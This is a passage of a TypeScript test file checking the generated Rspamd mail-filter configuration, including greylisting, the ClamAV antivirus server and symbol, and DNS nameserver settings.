    assert.match(plain['greylist.conf']!, /enabled = false;/);

    const full = rspamdLocalFiles({ scanPort: 1, controllerPort: 2, passwordHash: hash, clamdPort: 23310, dnsServers: ['10.0.0.53', '192.0.2.1'] });
    const av = full['antivirus.conf']!;
    assert.ok(av.includes('servers = "127.0.0.1:23310";'), av);
    // The symbol verdict.ts reads as a virus.
    assert.ok(av.includes('symbol = "CLAM_VIRUS";'), av);
    assert.ok(full['options.inc']!.includes('dns { nameserver = ["10.0.0.53", "192.0.2.1"]; }'), full['options.inc']);
  });
});
